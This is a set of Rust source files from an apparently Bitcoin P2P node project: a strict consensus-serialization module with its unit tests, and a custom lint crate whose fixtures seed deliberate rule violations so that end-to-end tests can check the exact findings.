//! - [`siphash`] — SipHash-2-4 (BIP152 compact-block short IDs).
//! - [`murmur3`] — 32-bit MurmurHash3 (BIP37 bloom filters).

pub mod murmur3;
pub mod sha256;
pub mod siphash;

pub use murmur3::murmur3_32;
pub use sha256::{
    sha256 as sha256_digest, sha256d, sha256d_into, sha256d_pair, Midstate, Sha256,
};
pub use siphash::{siphash24, SipHasher24};
