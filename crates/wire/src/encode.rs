//! Consensus serialization: the little-endian, `CompactSize`-prefixed format
//! every Bitcoin P2P message payload uses.
//!
//! The two traits, [`Encodable`] and [`Decodable`], mirror Bitcoin Core's
//! `Serialize`/`Unserialize`. Decoding is *strict*: trailing bytes, truncated
//! buffers, oversized allocations and non-canonical `CompactSize` encodings
//! are all errors — several ban-score rules depend on spotting exactly these
//! conditions.

use crate::bytes::{BufMut, Bytes, BytesMut};
use std::fmt;

/// Maximum payload size a node accepts (Bitcoin's `MAX_PROTOCOL_MESSAGE_LENGTH`).
pub const MAX_MESSAGE_SIZE: usize = 4_000_000;

/// Cap for any single length prefix, to avoid attacker-controlled allocations.
pub const MAX_VEC_PREALLOC: usize = 5_000;

/// An error raised while decoding a wire structure.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum DecodeError {
    /// The buffer ended before the structure was complete.
    UnexpectedEnd,
    /// A `CompactSize` used a longer encoding than necessary.
    NonCanonicalVarInt,
    /// A length prefix exceeded a protocol limit.
    OversizedLength {
        /// What was being decoded.
        what: &'static str,
        /// The claimed length.
        len: u64,
        /// The limit that was exceeded.
        max: u64,
    },
    /// A field held a value the protocol forbids.
    InvalidValue(&'static str),
    /// Payload bytes remained after the structure was fully decoded.
    TrailingBytes(usize),
    /// The command string in a message header was not printable ASCII.
    BadCommand,
    /// The declared header checksum did not match the payload.
    BadChecksum {
        /// Checksum declared in the header.
        declared: [u8; 4],
        /// Checksum computed over the payload.
        computed: [u8; 4],
    },
    /// The 4-byte network magic did not match the expected network.
    WrongMagic(u32),
    /// The command is not one of the known message types.
    UnknownCommand(String),
}

impl fmt::Display for DecodeError {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self {
            DecodeError::UnexpectedEnd => write!(f, "unexpected end of data"),
            DecodeError::NonCanonicalVarInt => write!(f, "non-canonical CompactSize encoding"),
            DecodeError::OversizedLength { what, len, max } => {
                write!(f, "oversized length for {what}: {len} > {max}")
            }
            DecodeError::InvalidValue(what) => write!(f, "invalid value: {what}"),
            DecodeError::TrailingBytes(n) => write!(f, "{n} trailing bytes after payload"),
            DecodeError::BadCommand => write!(f, "malformed command string"),
            DecodeError::BadChecksum { declared, computed } => write!(
                f,
                "checksum mismatch: declared {declared:02x?}, computed {computed:02x?}"
            ),
            DecodeError::WrongMagic(m) => write!(f, "wrong network magic {m:#010x}"),
            DecodeError::UnknownCommand(c) => write!(f, "unknown command {c:?}"),
        }
    }
}

impl std::error::Error for DecodeError {}

/// Result alias for decoding.
pub type DecodeResult<T> = Result<T, DecodeError>;

/// A cursor over an immutable byte buffer being decoded.
#[derive(Debug)]
pub struct Reader<'a> {
    buf: &'a [u8],
    pos: usize,
}

impl<'a> Reader<'a> {
    /// Creates a reader over `buf`.
    pub fn new(buf: &'a [u8]) -> Self {
        Reader { buf, pos: 0 }
    }

    /// Bytes not yet consumed.
    pub fn remaining(&self) -> usize {
        self.buf.len() - self.pos
    }

    /// Current read offset.
    pub fn position(&self) -> usize {
        self.pos
    }

    /// Reads exactly `n` bytes.
    ///
    /// # Errors
    ///
    /// [`DecodeError::UnexpectedEnd`] when fewer than `n` bytes remain.
    pub fn take(&mut self, n: usize) -> DecodeResult<&'a [u8]> {
        let end = self.pos.checked_add(n).ok_or(DecodeError::UnexpectedEnd)?;
        let s = self
            .buf
            .get(self.pos..end)
            .ok_or(DecodeError::UnexpectedEnd)?;
        self.pos = end;
        Ok(s)
    }

    /// Reads exactly `N` bytes as a fixed-size array.
    ///
    /// # Errors
    ///
    /// [`DecodeError::UnexpectedEnd`] when fewer than `N` bytes remain.
    pub fn array<const N: usize>(&mut self) -> DecodeResult<[u8; N]> {
        let mut out = [0u8; N];
        out.copy_from_slice(self.take(N)?);
        Ok(out)
    }

    /// Reads a single byte.
    pub fn u8(&mut self) -> DecodeResult<u8> {
        let [b] = self.array()?;
        Ok(b)
    }

    /// Reads a little-endian `u16`.
    pub fn u16_le(&mut self) -> DecodeResult<u16> {
        Ok(u16::from_le_bytes(self.array()?))
    }

    /// Reads a big-endian `u16` (port numbers in `NetAddr`).
    pub fn u16_be(&mut self) -> DecodeResult<u16> {
        Ok(u16::from_be_bytes(self.array()?))
    }

    /// Reads a little-endian `u32`.
    pub fn u32_le(&mut self) -> DecodeResult<u32> {
        Ok(u32::from_le_bytes(self.array()?))
    }

    /// Reads a little-endian `u64`.
    pub fn u64_le(&mut self) -> DecodeResult<u64> {
        Ok(u64::from_le_bytes(self.array()?))
    }

    /// Reads a little-endian `i32`.
    pub fn i32_le(&mut self) -> DecodeResult<i32> {
        Ok(i32::from_le_bytes(self.array()?))
    }

    /// Reads a little-endian `i64`.
    pub fn i64_le(&mut self) -> DecodeResult<i64> {
        Ok(i64::from_le_bytes(self.array()?))
    }

    /// Reads a canonical Bitcoin `CompactSize` varint.
    ///
    /// # Errors
    ///
    /// [`DecodeError::NonCanonicalVarInt`] when a longer-than-needed form is
    /// used (consensus rejects those), [`DecodeError::UnexpectedEnd`] on
    /// truncation.
    pub fn compact_size(&mut self) -> DecodeResult<u64> {
        let tag = self.u8()?;
        match tag {
            0..=0xfc => Ok(tag as u64),
            0xfd => {
                let v = self.u16_le()? as u64;
                if v < 0xfd {
                    return Err(DecodeError::NonCanonicalVarInt);
                }
                Ok(v)
            }
            0xfe => {
                let v = self.u32_le()? as u64;
                if v <= u16::MAX as u64 {
                    return Err(DecodeError::NonCanonicalVarInt);
                }
                Ok(v)
            }
            0xff => {
                let v = self.u64_le()?;
                if v <= u32::MAX as u64 {
                    return Err(DecodeError::NonCanonicalVarInt);
                }
                Ok(v)
            }
        }
    }

    /// Reads a `CompactSize` and checks it against `max`.
    ///
    /// # Errors
    ///
    /// [`DecodeError::OversizedLength`] when the value exceeds `max`.
    pub fn bounded_compact_size(&mut self, what: &'static str, max: u64) -> DecodeResult<u64> {
        let v = self.compact_size()?;
        if v > max {
            return Err(DecodeError::OversizedLength { what, len: v, max });
        }
        Ok(v)
    }

    /// Reads a `CompactSize`-prefixed byte string bounded by `max` bytes.
    pub fn var_bytes(&mut self, what: &'static str, max: u64) -> DecodeResult<Vec<u8>> {
        let len = self.bounded_compact_size(what, max)? as usize;
        Ok(self.take(len)?.to_vec())
    }

    /// Reads a `CompactSize`-prefixed UTF-8 string bounded by `max` bytes.
    ///
    /// Invalid UTF-8 is replaced, matching Bitcoin Core's tolerance for
    /// user-agent strings.
    pub fn var_string(&mut self, max: u64) -> DecodeResult<String> {
        let bytes = self.var_bytes("string", max)?;
        Ok(String::from_utf8_lossy(&bytes).into_owned())
    }

    /// Fails with [`DecodeError::TrailingBytes`] if any input remains.
    pub fn expect_end(&self) -> DecodeResult<()> {
        if self.remaining() != 0 {
            return Err(DecodeError::TrailingBytes(self.remaining()));
        }
        Ok(())
    }
}

/// A growable output buffer being encoded into.
#[derive(Debug, Default)]
pub struct Writer {
    buf: BytesMut,
}

impl Writer {
    /// Creates an empty writer.
    pub fn new() -> Self {
        Writer { buf: BytesMut::new() }
    }

    /// Creates a writer with `cap` bytes of capacity.
    pub fn with_capacity(cap: usize) -> Self {
        Writer {
            buf: BytesMut::with_capacity(cap),
        }
    }

    /// Bytes written so far.
    pub fn len(&self) -> usize {
        self.buf.len()
    }

    /// Whether nothing has been written.
    pub fn is_empty(&self) -> bool {
        self.buf.is_empty()
    }

    /// Consumes the writer, returning the encoded bytes.
    pub fn into_bytes(self) -> Bytes {
        self.buf.freeze()
    }

    /// Appends raw bytes.
    pub fn bytes(&mut self, b: &[u8]) {
        self.buf.put_slice(b);
    }

    /// Appends one byte.
    pub fn u8(&mut self, v: u8) {
        self.buf.put_u8(v);
    }

    /// Appends a little-endian `u16`.
    pub fn u16_le(&mut self, v: u16) {
        self.buf.put_u16_le(v);
    }

    /// Appends a big-endian `u16`.
    pub fn u16_be(&mut self, v: u16) {
        self.buf.put_u16(v);
    }

    /// Appends a little-endian `u32`.
    pub fn u32_le(&mut self, v: u32) {
        self.buf.put_u32_le(v);
    }

    /// Appends a little-endian `u64`.
    pub fn u64_le(&mut self, v: u64) {
        self.buf.put_u64_le(v);
    }

    /// Appends a little-endian `i32`.
    pub fn i32_le(&mut self, v: i32) {
        self.buf.put_i32_le(v);
    }

    /// Appends a little-endian `i64`.
    pub fn i64_le(&mut self, v: i64) {
        self.buf.put_i64_le(v);
    }

    /// Appends a canonical `CompactSize`.
    pub fn compact_size(&mut self, v: u64) {
        match v {
            // lint:allow(narrowing-cast): each arm's range pattern proves the cast lossless
            0..=0xfc => self.u8(v as u8),
            0xfd..=0xffff => {
                self.u8(0xfd);
                // lint:allow(narrowing-cast): range pattern bounds v at 0xffff
                self.u16_le(v as u16);
            }
            0x1_0000..=0xffff_ffff => {
                self.u8(0xfe);
                // lint:allow(narrowing-cast): range pattern bounds v at 0xffff_ffff
                self.u32_le(v as u32);
            }
            _ => {
                self.u8(0xff);
                self.u64_le(v);
            }
        }
    }

    /// Appends a protocol bool as one byte (`0`/`1`).
    pub fn bool_flag(&mut self, v: bool) {
        self.u8(u8::from(v));
    }

    /// Appends a `CompactSize`-prefixed byte string.
    pub fn var_bytes(&mut self, b: &[u8]) {
        self.compact_size(b.len() as u64);
        self.bytes(b);
    }

    /// Appends a `CompactSize`-prefixed UTF-8 string.
    pub fn var_string(&mut self, s: &str) {
        self.var_bytes(s.as_bytes());
    }
}

/// A type with a canonical Bitcoin consensus encoding.
pub trait Encodable {
    /// Writes `self` into `w`.
    fn encode(&self, w: &mut Writer);

    /// Convenience: encodes into a fresh byte vector.
    fn encode_to_vec(&self) -> Vec<u8> {
        let mut w = Writer::new();
        self.encode(&mut w);
        w.into_bytes().to_vec()
    }

    /// Length of the encoding in bytes.
    fn encoded_len(&self) -> usize {
        let mut w = Writer::new();
        self.encode(&mut w);
        w.len()
    }
}

/// A type decodable from its canonical Bitcoin consensus encoding.
pub trait Decodable: Sized {
    /// Reads one value from `r`.
    ///
    /// # Errors
    ///
    /// Any [`DecodeError`] raised by malformed input.
    fn decode(r: &mut Reader<'_>) -> DecodeResult<Self>;

    /// Decodes a value that must consume the entire buffer.
    ///
    /// # Errors
    ///
    /// In addition to decode errors, [`DecodeError::TrailingBytes`] when the
    /// buffer is longer than the encoding.
    fn decode_all(buf: &[u8]) -> DecodeResult<Self> {
        let mut r = Reader::new(buf);
        let v = Self::decode(&mut r)?;
        r.expect_end()?;
        Ok(v)
    }
}

/// Decodes a `CompactSize`-prefixed list with an element-count bound.
///
/// # Errors
///
/// [`DecodeError::OversizedLength`] when the list claims more than `max`
/// elements; element decode errors are propagated.
pub fn decode_vec<T: Decodable>(
    r: &mut Reader<'_>,
    what: &'static str,
    max: u64,
) -> DecodeResult<Vec<T>> {
    let n = r.bounded_compact_size(what, max)? as usize;
    let mut out = Vec::with_capacity(n.min(MAX_VEC_PREALLOC));
    for _ in 0..n {
        out.push(T::decode(r)?);
    }
    Ok(out)
}

/// Encodes a list as `CompactSize` count followed by the elements.
pub fn encode_vec<T: Encodable>(w: &mut Writer, items: &[T]) {
    w.compact_size(items.len() as u64);
    for it in items {
        it.encode(w);
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn compact_size_roundtrip_boundaries() {
        for v in [
            0u64,
            1,
            0xfc,
            0xfd,
            0xfffe,
            0xffff,
            0x1_0000,
            0xffff_ffff,
            0x1_0000_0000,
            u64::MAX,
        ] {
            let mut w = Writer::new();
            w.compact_size(v);
            let bytes = w.into_bytes();
            let mut r = Reader::new(&bytes);
            assert_eq!(r.compact_size().unwrap(), v);
            assert_eq!(r.remaining(), 0);
        }
    }

    #[test]
    fn compact_size_sizes() {
        let sz = |v: u64| {
            let mut w = Writer::new();
            w.compact_size(v);
            w.len()
        };
        assert_eq!(sz(0xfc), 1);
        assert_eq!(sz(0xfd), 3);
        assert_eq!(sz(0xffff), 3);
        assert_eq!(sz(0x1_0000), 5);
        assert_eq!(sz(0x1_0000_0000), 9);
    }

    #[test]
    fn non_canonical_varint_rejected() {
        // 0xfd prefix encoding a value < 0xfd.
        let mut r = Reader::new(&[0xfd, 0x01, 0x00]);
        assert_eq!(r.compact_size(), Err(DecodeError::NonCanonicalVarInt));
        // 0xfe prefix encoding a value that fits in u16.
        let mut r = Reader::new(&[0xfe, 0xff, 0xff, 0x00, 0x00]);
        assert_eq!(r.compact_size(), Err(DecodeError::NonCanonicalVarInt));
        // 0xff prefix encoding a value that fits in u32.
        let mut r = Reader::new(&[0xff, 1, 0, 0, 0, 0, 0, 0, 0]);
        assert_eq!(r.compact_size(), Err(DecodeError::NonCanonicalVarInt));
    }

    #[test]
    fn truncated_varint() {
        let mut r = Reader::new(&[0xfd, 0x01]);
        assert_eq!(r.compact_size(), Err(DecodeError::UnexpectedEnd));
    }

    #[test]
    fn bounded_compact_size_enforces_max() {
        let mut w = Writer::new();
        w.compact_size(1001);
        let bytes = w.into_bytes();
        let mut r = Reader::new(&bytes);
        let err = r.bounded_compact_size("addr", 1000).unwrap_err();
        assert!(matches!(err, DecodeError::OversizedLength { len: 1001, max: 1000, .. }));
    }

    #[test]
    fn var_string_roundtrip() {
        let mut w = Writer::new();
        w.var_string("/Satoshi:0.20.0/");
        let bytes = w.into_bytes();
        let mut r = Reader::new(&bytes);
        assert_eq!(r.var_string(256).unwrap(), "/Satoshi:0.20.0/");
    }

    #[test]
    fn integer_endianness() {
        let mut w = Writer::new();
        w.u16_be(8333);
        w.u16_le(8333);
        let b = w.into_bytes();
        assert_eq!(&b[..2], &[0x20, 0x8d]);
        assert_eq!(&b[2..], &[0x8d, 0x20]);
    }

    #[test]
    fn expect_end_reports_trailing() {
        let mut r = Reader::new(&[1, 2, 3]);
        r.u8().unwrap();
        assert_eq!(r.expect_end(), Err(DecodeError::TrailingBytes(2)));
    }

    #[test]
    fn reader_take_past_end() {
        let mut r = Reader::new(&[1, 2]);
        assert_eq!(r.take(3).unwrap_err(), DecodeError::UnexpectedEnd);
        // Failed take consumes nothing.
        assert_eq!(r.remaining(), 2);
    }
}
