//! The real workspace must stay lint-clean: this test fails `cargo test`
//! the moment a violation lands anywhere under `crates/`, so the contract
//! holds even for contributors who skip `scripts/ci.sh`.

use std::path::Path;

#[test]
fn real_workspace_is_lint_clean() {
    let root = Path::new(env!("CARGO_MANIFEST_DIR"))
        .parent()
        .and_then(Path::parent)
        .expect("crates/lint has a workspace root two levels up");
    let findings = btc_lint::run(root);
    assert!(
        findings.is_empty(),
        "workspace has lint findings:\n{}",
        findings
            .iter()
            .map(ToString::to_string)
            .collect::<Vec<_>>()
            .join("\n")
    );
}
