//! Fixture: the root `src/` tree is scanned too (not just `crates/`).

fn main() {
    let _ = std::time::Instant::now();
}
