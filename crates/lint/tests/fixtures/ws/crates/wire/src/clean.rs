//! Fixture: a clean file. Rule names inside comments ("HashMap",
//! "Instant::now") and idents like `unwrap_or` must not be flagged.

pub fn describe() -> &'static str {
    "HashMap and Instant::now belong in strings"
}

pub fn safe(v: &[u8]) -> u8 {
    v.first().copied().unwrap_or(0)
}

// lint:allow(wallclock): stale fixture marker — nothing below reads the clock
pub fn quiet() -> u8 {
    0
}
