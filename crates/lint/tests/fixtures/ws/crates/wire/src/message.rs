//! Fixture: the command list for the ban cross-check.

pub const ALL_COMMANDS: [&str; 3] = ["version", "ping", "tx"];
