//! Fixture: deliberate wire-decode violations for the lint self-test.

use std::collections::HashMap;

pub fn parse(buf: &[u8]) -> u8 {
    let first = buf[0];
    let narrowed = buf.len() as u8;
    let map: HashMap<u8, u8> = HashMap::new();
    map.get(&first).copied().unwrap() + narrowed
}

pub fn allowed(buf: &[u8]) -> u8 {
    // lint:allow(panic-path): fixture exercises a justified marker
    buf[1]
}

pub fn unjustified(buf: &[u8]) -> u8 {
    // lint:allow(panic-path)
    buf[2]
}

#[cfg(test)]
mod tests {
    #[test]
    fn exempt() {
        let v = vec![1u8];
        assert_eq!(v[0], *v.get(0).unwrap());
    }
}
