//! Fixture: wall-clock use outside any allowlist entry.

pub fn stamp() -> std::time::Instant {
    std::time::Instant::now()
}
