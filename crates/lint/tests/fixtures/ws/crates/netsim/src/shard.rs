//! Fixture: shard-runtime code is sim-deterministic — the wallclock and
//! unordered-map rules both apply; a justified marker and test code stay
//! exempt. Mirrors the hot paths of the real `btc_netsim::shard`.

use std::collections::HashMap;

pub fn mailboxes() -> HashMap<u32, Vec<u8>> {
    let horizon = std::time::Instant::now();
    let _ = horizon;
    HashMap::new()
}

// lint:allow(unordered-map): membership-only probe set, never iterated
pub fn seen(set: &std::collections::HashSet<u64>, key: u64) -> bool { set.contains(&key) }

pub const FIXTURE_STREAM_SALT: u64 = 0x5a17;

/// RNG root (declared in scope::RNG_ROOTS): may only draw from fault_rng.
/// The fault_rng draw is fine; fault_delay draws from host_rng — caught
/// through the call graph with the chain printed.
pub fn send_packet(fault_rng: &mut SimRng, host_rng: &mut SimRng) {
    let _flip = fault_rng.gen_bool(0.5);
    let _jit = fault_delay(host_rng);
}

pub fn fault_stream(seed: u64) -> SimRng {
    SimRng::new(seed ^ FIXTURE_STREAM_SALT)
}

pub fn host_stream(seed: u64) -> SimRng {
    SimRng::new(seed)
}

pub fn measure_window() -> std::time::Instant {
    probe()
}

#[cfg(test)]
mod tests {
    use std::collections::HashMap;

    #[test]
    fn exempt() {
        let _ = HashMap::<u8, u8>::new();
        let _ = std::time::Instant::now();
    }
}
