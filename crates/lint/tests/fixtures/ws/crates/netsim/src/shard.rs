//! Fixture: shard-runtime code is sim-deterministic — the wallclock and
//! unordered-map rules both apply; a justified marker and test code stay
//! exempt. Mirrors the hot paths of the real `btc_netsim::shard`.

use std::collections::HashMap;

pub fn mailboxes() -> HashMap<u32, Vec<u8>> {
    let horizon = std::time::Instant::now();
    let _ = horizon;
    HashMap::new()
}

// lint:allow(unordered-map): membership-only probe set, never iterated
pub fn seen(set: &std::collections::HashSet<u64>, key: u64) -> bool { set.contains(&key) }

#[cfg(test)]
mod tests {
    use std::collections::HashMap;

    #[test]
    fn exempt() {
        let _ = HashMap::<u8, u8>::new();
        let _ = std::time::Instant::now();
    }
}
