//! Fixture: fault helpers. `fault_delay` is reached from the send_packet
//! RNG root and draws from the wrong stream; `orphan_noise` draws from a
//! stream nobody declared.

pub fn fault_delay(host_rng: &mut SimRng) -> u64 {
    host_rng.next_u64()
}

pub fn orphan_noise(noise_rng: &mut SimRng) -> u64 {
    noise_rng.next_u64()
}
