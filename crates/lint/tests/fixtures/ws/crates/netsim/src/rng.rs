//! Fixture: the RNG implementation file — declared stream-neutral in
//! scope::RNG_ROOTS, so its `self` draws belong to the caller's stream.

pub struct SimRng(pub u64);

impl SimRng {
    pub fn new(seed: u64) -> SimRng {
        SimRng(seed)
    }

    pub fn next_u64(&mut self) -> u64 {
        self.0 = self.0.wrapping_add(1);
        self.0
    }

    pub fn gen_bool(&mut self, _p: f64) -> bool {
        self.next_u64() & 1 == 1
    }
}
