//! Fixture: not a peer-input file itself — panics here are only caught by
//! the transitive pass, via the call from recv.rs.

pub fn decode_extra(b: &[u8]) -> u8 {
    b.first().copied().unwrap()
}
