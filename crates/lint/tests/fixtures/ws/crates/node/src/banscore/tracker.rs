//! Fixture: score-arithmetic seeds — bare compound ops and deadline sums
//! must be flagged, saturating forms and justified floats must not.

pub fn strike(rep: &mut Rep, points: i64, now: u64, dur: u64) {
    rep.score += points;
    rep.banned_until = now + dur;
    rep.total = rep.total.saturating_add(points);
    // lint:allow(score-arith): fixture float clamped by the caller
    rep.tokens -= 1.0;
}
