//! Fixture: decision table with a deliberately missing "tx" row.

pub const BAN_DECISIONS: [(&str, [BanDecision; 3]); 2] = [
    ("version", [BanDecision::Penalize, BanDecision::Penalize, BanDecision::Tolerate]),
    ("ping", [BanDecision::Tolerate, BanDecision::Tolerate, BanDecision::Tolerate]),
];

pub const TIER_WEIGHTS: [(&str, TierWeight); 2] = [
    ("version", TierWeight::Moderate),
    ("ping", TierWeight::Neutral),
];
