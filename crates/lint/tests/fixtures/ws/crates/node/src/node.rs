//! Fixture: dispatch missing the Tx arm.

pub fn handle(m: Message) {
    match m {
        Message::Version(_) => {}
        Message::Ping(_) => {}
        _ => {}
    }
}
