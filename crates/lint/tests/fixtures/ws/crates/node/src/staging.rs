//! Fixture: not a receive-path file itself — allocations here are only
//! caught by the transitive pass, via the call from recv.rs.

pub fn stage_remainder(payload: &[u8], _tag: u8) -> Vec<u8> {
    payload.to_vec()
}
