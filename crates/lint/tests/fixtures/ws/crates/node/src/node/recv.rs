//! Fixture: steady-state receive path (hot-path-alloc + panic-path scope).

pub fn per_frame(payload: &[u8], scratch: &mut [u8]) {
    let copy = payload.to_vec();
    let mut frames: Vec<u8> = Vec::new();
    scratch.copy_from_slice(&copy);
    frames.extend_from_slice(&copy);
    let tag = decode_extra(payload);
    stage_remainder(payload, tag);
}

pub fn setup() -> Vec<u8> {
    // lint:allow(hot-path-alloc): one-time setup buffer, not per frame
    Vec::new()
}

#[cfg(test)]
mod tests {
    #[test]
    fn alloc_in_tests_is_fine() {
        let v = b"frame".to_vec();
        assert_eq!(v.len(), 5);
    }
}
