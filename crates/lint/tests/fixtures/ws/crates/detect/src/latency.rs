//! Fixture: wall-clock use covered by the fixture allowlist.

pub fn probe() -> std::time::Instant {
    std::time::Instant::now()
}
