//! Fixture: wall-clock use covered by the fixture allowlist.

pub fn stamp() -> std::time::Instant {
    std::time::Instant::now()
}
