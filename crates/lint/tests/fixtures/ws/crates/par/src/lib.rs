//! Fixture: lock-order seeds over the declared par pool locks
//! (par.deque < par.pending in the total order).

pub fn ordered(deques: &Lk, pending: &Lk) {
    let d = deques.lock();
    let p = pending.lock();
    let _ = (d, p);
}

pub fn inverted(deques: &Lk, pending: &Lk) {
    let p = pending.lock();
    let d = deques.lock();
    let _ = (d, p);
}

pub fn held_into_callee(pending: &Lk, deques: &Lk) {
    let p = pending.lock();
    grab_deque(deques);
    let _ = p;
}

pub fn grab_deque(deques: &Lk) {
    let d = deques.lock();
    let _ = d;
}

pub fn rogue(mystery: &Lk) {
    let g = mystery.lock();
    let _ = g;
}
