//! End-to-end self-test: run the full lint over the fixture workspace under
//! `tests/fixtures/ws` and assert the exact findings — including that the
//! justified inline marker, the allowlist entry, and test code suppress
//! theirs, while the unjustified marker, the malformed allowlist line, and
//! the stale exemptions produce findings of their own. Each call-graph rule
//! family is exercised end to end: transitive panic-path / hot-path-alloc /
//! wallclock chains, score arithmetic, RNG stream discipline (cross-stream
//! chain, unsalted constructor, orphan stream), and lock ordering (direct
//! inversion, inversion via a callee, undeclared receiver).

use std::path::Path;

#[test]
fn fixture_workspace_findings_are_exact() {
    let root = Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/fixtures/ws");
    let findings = btc_lint::run(&root);

    let want: &[(&str, u32, &str)] = &[
        ("crates/attack/src/clock.rs", 4, "wallclock"),
        ("crates/lint/lint-allow.txt", 3, "allowlist"),
        ("crates/lint/lint-allow.txt", 4, "stale-allow"),
        // send_packet (RNG root) draws from fault_rng directly — fine — but
        // reaches fault_delay, which draws from host_rng: flagged with chain.
        ("crates/netsim/src/fault.rs", 6, "rng-stream"),
        // orphan_noise draws from a stream no root declares.
        ("crates/netsim/src/fault.rs", 10, "rng-stream"),
        ("crates/netsim/src/shard.rs", 5, "unordered-map"),
        ("crates/netsim/src/shard.rs", 7, "unordered-map"),
        ("crates/netsim/src/shard.rs", 8, "wallclock"),
        ("crates/netsim/src/shard.rs", 10, "unordered-map"),
        // host_stream builds SimRng::new(seed) with no salt; the salted
        // fault_stream two lines up is not flagged.
        ("crates/netsim/src/shard.rs", 31, "rng-stream"),
        // measure_window -> latency.rs:probe, whose wallclock read is
        // allowlisted at the read site but escapes into sim-determinism here.
        ("crates/netsim/src/shard.rs", 35, "wallclock"),
        ("crates/node/src/banscore/rules.rs", 3, "ban-exhaustive"),
        ("crates/node/src/banscore/rules.rs", 8, "ban-exhaustive"),
        // Bare += / + on score and deadline fields; the saturating_add and
        // the marker-justified float op below them stay quiet.
        ("crates/node/src/banscore/tracker.rs", 5, "score-arith"),
        ("crates/node/src/banscore/tracker.rs", 6, "score-arith"),
        ("crates/node/src/node.rs", 1, "ban-exhaustive"),
        // decode_extra is outside the peer-input file list but reachable
        // from per_frame: transitive panic-path with chain.
        ("crates/node/src/node/helpers.rs", 5, "panic-path"),
        ("crates/node/src/node/recv.rs", 4, "hot-path-alloc"),
        ("crates/node/src/node/recv.rs", 5, "hot-path-alloc"),
        ("crates/node/src/node/recv.rs", 6, "hot-path-alloc"),
        // stage_remainder allocates outside the recv-path file list but is
        // called per frame: transitive hot-path-alloc with chain.
        ("crates/node/src/staging.rs", 5, "hot-path-alloc"),
        // inverted: par.deque acquired while a let-bound par.pending guard
        // is still live (direct inversion in one body).
        ("crates/par/src/lib.rs", 12, "lock-order"),
        // held_into_callee: same inversion, but the deque acquisition sits
        // in grab_deque and is found through the callee's lock summary.
        ("crates/par/src/lib.rs", 18, "lock-order"),
        ("crates/par/src/lib.rs", 28, "lock-order"),
        ("crates/wire/src/clean.rs", 12, "stale-allow"),
        ("crates/wire/src/encode.rs", 3, "unordered-map"),
        ("crates/wire/src/encode.rs", 6, "panic-path"),
        ("crates/wire/src/encode.rs", 7, "narrowing-cast"),
        ("crates/wire/src/encode.rs", 8, "unordered-map"),
        ("crates/wire/src/encode.rs", 9, "panic-path"),
        ("crates/wire/src/encode.rs", 18, "allow-marker"),
        ("crates/wire/src/encode.rs", 19, "panic-path"),
        // Satellite: the workspace-root src/ tree is scanned too.
        ("src/main.rs", 4, "wallclock"),
    ];
    let got: Vec<(&str, u32, &str)> = findings
        .iter()
        .map(|f| (f.file.as_str(), f.line, f.rule))
        .collect();
    assert_eq!(got, want, "full findings:\n{}", render(&findings));

    // Spot-check the cross-file messages name the missing command.
    assert!(findings
        .iter()
        .any(|f| f.message.contains("no `BAN_DECISIONS` row for \"tx\"")));
    assert!(findings
        .iter()
        .any(|f| f.message.contains("no `TIER_WEIGHTS` row for \"tx\"")));
    assert!(findings
        .iter()
        .any(|f| f.message.contains("\"tx\"") && f.file.ends_with("node.rs")));

    // Transitive findings carry the call chain from the contract root.
    assert_chain(
        &findings,
        "crates/node/src/node/helpers.rs",
        &["recv.rs:per_frame", "helpers.rs:decode_extra", "unwrap"],
    );
    assert_chain(
        &findings,
        "crates/node/src/staging.rs",
        &["recv.rs:per_frame", "staging.rs:stage_remainder", "to_vec"],
    );
    assert_chain(
        &findings,
        "crates/netsim/src/fault.rs",
        &[
            "shard.rs:send_packet",
            "fault.rs:fault_delay",
            "host_rng.next_u64",
        ],
    );
    let wall = findings
        .iter()
        .find(|f| f.file == "crates/netsim/src/shard.rs" && f.line == 35)
        .expect("transitive wallclock finding");
    assert_eq!(
        wall.chain,
        ["shard.rs:measure_window", "latency.rs:probe", "wallclock"]
    );

    // The inversion found through the callee names the function it hides in.
    let via = findings
        .iter()
        .find(|f| f.file == "crates/par/src/lib.rs" && f.line == 18)
        .expect("interprocedural lock-order finding");
    assert!(
        via.message.contains("via `lib.rs:grab_deque`"),
        "message: {}",
        via.message
    );

    // Stale exemptions name what to remove.
    assert!(findings
        .iter()
        .any(|f| f.rule == "stale-allow" && f.message.contains("remove the marker")));
    assert!(findings
        .iter()
        .any(|f| f.rule == "stale-allow" && f.message.contains("remove the entry")));
}

fn assert_chain(findings: &[btc_lint::findings::Finding], file: &str, want: &[&str]) {
    let f = findings
        .iter()
        .find(|f| f.file == file && !f.chain.is_empty())
        .unwrap_or_else(|| panic!("no chained finding in {file}"));
    assert_eq!(f.chain, want, "chain for {file}");
}

fn render(findings: &[btc_lint::findings::Finding]) -> String {
    findings
        .iter()
        .map(ToString::to_string)
        .collect::<Vec<_>>()
        .join("\n")
}
