//! End-to-end self-test: run the full lint over the fixture workspace under
//! `tests/fixtures/ws` and assert the exact findings — including that the
//! justified inline marker, the allowlist entry, and test code suppress
//! theirs, while the unjustified marker and the malformed allowlist line
//! produce findings of their own.

use std::path::Path;

#[test]
fn fixture_workspace_findings_are_exact() {
    let root = Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/fixtures/ws");
    let findings = btc_lint::run(&root);

    let want: &[(&str, u32, &str)] = &[
        ("crates/attack/src/clock.rs", 4, "wallclock"),
        ("crates/lint/lint-allow.txt", 3, "allowlist"),
        ("crates/netsim/src/shard.rs", 5, "unordered-map"),
        ("crates/netsim/src/shard.rs", 7, "unordered-map"),
        ("crates/netsim/src/shard.rs", 8, "wallclock"),
        ("crates/netsim/src/shard.rs", 10, "unordered-map"),
        ("crates/node/src/banscore/rules.rs", 3, "ban-exhaustive"),
        ("crates/node/src/banscore/rules.rs", 8, "ban-exhaustive"),
        ("crates/node/src/node.rs", 1, "ban-exhaustive"),
        ("crates/node/src/node/recv.rs", 4, "hot-path-alloc"),
        ("crates/node/src/node/recv.rs", 5, "hot-path-alloc"),
        ("crates/node/src/node/recv.rs", 6, "hot-path-alloc"),
        ("crates/wire/src/encode.rs", 3, "unordered-map"),
        ("crates/wire/src/encode.rs", 6, "panic-path"),
        ("crates/wire/src/encode.rs", 7, "narrowing-cast"),
        ("crates/wire/src/encode.rs", 8, "unordered-map"),
        ("crates/wire/src/encode.rs", 9, "panic-path"),
        ("crates/wire/src/encode.rs", 18, "allow-marker"),
        ("crates/wire/src/encode.rs", 19, "panic-path"),
    ];
